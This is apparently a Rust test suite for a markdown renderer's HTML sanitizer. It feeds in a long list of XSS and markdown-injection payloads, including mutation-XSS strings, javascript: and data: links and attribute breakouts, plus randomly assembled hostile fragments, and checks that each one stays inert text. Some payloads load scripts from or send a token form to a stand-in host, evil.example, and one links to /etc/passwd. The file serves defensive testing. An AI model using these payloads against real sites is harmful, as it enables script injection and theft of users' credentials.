//! Text that is meant to become more than text in a browser: known attempts one by one, and heaps of
//! their pieces.

mod dom;

use dom::wrong_with;
use overlord_render::{blocks, disagreement, document};

/// One attempt a line each, unless it needs several.
const ATTEMPTS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\" / >text",
    "text <img src=`x`onerror=alert(1)> text",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><a title=\"</title><script>alert(1)</script>\">",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\">",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"//evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style=\"background:url(//evil.example)\">a</p>",
    "<form action=//evil.example><input name=token><button>ok</button></form>",
    "<a id=document name=cookie href=x>clobber</a>",
    "<details open ontoggle=alert(1)>",
    "<plaintext>",
    "<!-- --!> <img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml <img src=x onerror=alert(1)> ?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<b <script>alert(1)</script>0",
    "</p><script>alert(1)</script>",
    "<a href=\"javascript:alert(1)\">x</a",
    "<div\u{c}onclick=alert(1)>",
    "<im\0g src=x onerror=alert(1)>",
    "\u{feff}<script>alert(1)</script>\u{202e}",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#x73;cript:alert(1))",
    "[a](java&Tab;script&colon;alert(1))",
    "[a](java&NewLine;script:alert(1))",
    "[a](&#1;javascript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](\\javascript:alert(1))",
    "[a](javascript://a.example/%0aalert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox(1))",
    "[a](file:///etc/passwd)",
    "[a](//evil.example/)",
    "[a](/logout)",
    "[a](https://bank.example@evil.example/)",
    "[a](https://a.example/\"onmouseover=\"alert(1))",
    "[a](https://a.example/'onmouseover='alert(1))",
    "[a](https://a.example/ \"\\\" onmouseover=alert(1) x=\\\"\")",
    "[a](https://a.example/ '\"><script>alert(1)</script>')",
    "[a](https://a.example/ \"&quot; onmouseover=alert(1)\")",
    "[a]\n\n[a]: javascript:alert(1) \"x\"",
    "[a]: https://a.example/ \"\\\"><img src=x onerror=alert(1)>\"\n\n[a]",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[![x](https://a.example/)](https://b.example/)",
    "![a](https://evil.example/?who \"t\\\" onerror=\\\"alert(1)\")",
    "![\"onerror=\"alert(1)](https://a.example/)",
    "![a ![b](https://b.example/) [c](https://c.example/)](https://a.example/)",
    "![<img src=x onerror=alert(1)>](https://a.example/)",
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover=alert(1)>",
    "<https://a.example/?<script>alert(1)</script>>",
    "<mailto:a@b.example?\"onclick=alert(1)>",
    "https://a.example/\"onmouseover=alert(1)//",
    "https://a.example/<script>alert(1)</script>",
    "javascript:alert(1)",
    "```\"onmouseover=\"alert(1)\nx\n```",
    "```rust\" onload=alert(1)\nx\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```rust\nlet a = \"</span><script>alert(1)</script>\"; // </pre>\n```",
    "```\n\n\n<script>",
    "`</code><script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    "|<script>|b|\n|-|-|\n|</td></table><script>alert(1)</script>|`<b>`|",
    "1234567890. a\n\n999999999. b",
    "# </h1><script>alert(1)</script>",
    "# a {#document .x onclick=alert(1)}",
    "- <li onclick=alert(1)>\n- [x] <input>",
    "> </blockquote><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3c;b&#x3e; &#0; &#xd800; &#x110000;",
    "*a <b> c* **<i>** ~~</del><script>~~",
    "\u{d7ff}\u{e000}\u{fffe}\u{ffff}\u{10ffff}\u{85}\u{2028}\u{7f}\u{80}",
    "a\u{a0}b `\u{a0}` [\u{a0}](https://a.example/\u{a0}b \"\u{a0}'\\\"\")",
    "a\0b\u{1}\u{8}\u{b}\u{c}\u{1b}[31m\r\rc\r\nd",
];

#[test]
fn no_attempt_becomes_more_than_text() {
    for attempt in ATTEMPTS {
        check(attempt);
        // The same within other things, and beside another.
        check(&format!("a {attempt}"));
        check(&format!("> - {attempt}"));
        check(&format!("[x {attempt}](https://a.example/)"));
        check(&format!("|a|\n|-|\n|{attempt}|"));
        check(&format!("{attempt}{attempt}"));
    }
}

#[test]
fn the_check_itself_sees_what_is_wrong() {
    for html in [
        "<script>alert(1)</script>",
        "<p dir=\"auto\" onclick=\"x\">a</p>",
        "<p id=\"a\">a</p>",
        "<a href=\"javascript:x\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">a</a>",
        "<a href=\"https://a.example/\">a</a>",
        "<p>a",
        "<p><p>a</p></p>",
        "<p class=\"other\">a</p>",
        "<!-- a -->",
        "<p>a</p>text",
        "<table><tr><td>a</td></tr></table>",
    ] {
        assert!(wrong_with(html, 1).is_some(), "{html}");
    }
    assert_eq!(wrong_with("<p dir=\"auto\">a &amp; b</p>", 1), None);
}

#[test]
fn heaps_of_hostile_pieces_stay_text() {
    const PIECES: &[&str] = &[
        "<",
        ">",
        "\"",
        "'",
        "&",
        "`",
        "```",
        "\n",
        "\n\n",
        "    ",
        "\t",
        "> ",
        "- ",
        "1. ",
        "# ",
        "|",
        "|-|\n",
        "*",
        "**",
        "_",
        "~~",
        "[",
        "]",
        "(",
        ")",
        "![",
        "](",
        "](https://a.example/",
        "](javascript:",
        "[a]: https://b/\n",
        "[a]",
        "\\",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<?",
        "<script>",
        "</script>",
        "<svg>",
        "<math>",
        "<style>",
        "<a href=\"",
        "<img src=x onerror=",
        "&lt;",
        "&#x3c;",
        "&colon;",
        "javascript:",
        "https://",
        "a",
        "ü",
        "\0",
        "\r",
        "\u{202e}",
        "\u{a0}",
        "```rust\n",
        "```html\n",
        "~~~diff\n+",
        "---\n",
        "===\n",
        "[x] ",
        "<br>",
        "{#a}",
        "\u{feff}",
    ];
    for seed in 0..1500 {
        let mut random = fastrand::Rng::with_seed(seed);
        let length = random.usize(1..60);
        let text: String = (0..length).map(|_| PIECES[random.usize(..PIECES.len())]).collect();
        check(&text);
    }
}

#[test]
fn a_link_within_a_link_is_none() {
    let html = document("[a ![b](https://b.example/) https://c.example/](https://a.example/)");
    assert_eq!(html.matches("<a ").count(), 1, "{html}");
}

#[track_caller]
fn check(text: &str) {
    assert_eq!(disagreement(text), None, "{text:?}");
    let parts = blocks(text);
    if let Some(wrong) = wrong_with(&document(text), parts.len()) {
        panic!("{text:?} becomes {}\n{wrong}", document(text));
    }
    for part in parts {
        assert_eq!(wrong_with(&part, 1), None, "a block of {text:?}: {part}");
    }
}
